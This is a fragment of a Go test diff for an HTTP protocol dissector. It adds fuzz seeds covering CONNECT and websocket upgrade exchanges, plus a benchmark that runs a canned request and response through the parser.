+			dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Type: text/xml\n\n<root><device><deviceType>x</deviceType><modelName>m</modelName>"))),
+		dialogue.Seed(dialogue.C(crlf("CONNECT h:1 HTTP/1.1\n\nGET http://a/ HTTP/1.1\nUpgrade: websocket\n\n")),
+			dialogue.S(crlf("HTTP/1.1 100 Continue\n\nHTTP/1.1 101 Switching\nUpgrade: websocket\n\n"))))
+}
+
+func BenchmarkTransaction(b *testing.B) {
+	request := []byte(crlf("GET /description.xml HTTP/1.1\nHost: 192.0.2.7:49152\nUser-Agent: Mozilla/5.0 (X11; Linux)\nAccept: text/html,application/xml;q=0.9\nAccept-Language: en\nAccept-Encoding: gzip, deflate\nConnection: keep-alive\n\n"))
+	response := []byte(crlf("HTTP/1.1 200 OK\nServer: lighttpd/1.4.35\nContent-Type: text/html\nContent-Length: 200\nDate: Thu, 01 Jan 1970 00:00:00 GMT\n\n") + "<html>" + strings.Repeat(".", 194))
+	p, c := Protocol.New(), prototest.NewConn(6, 80)
+	b.SetBytes(int64(len(request) + len(response)))
+	b.ReportAllocs()
+	for b.Loop() {
+		p.Data(c, event.ToServer, request)
+		p.Data(c, event.ToClient, response)
+		c.Env.Out.Reset()
+	}
+}
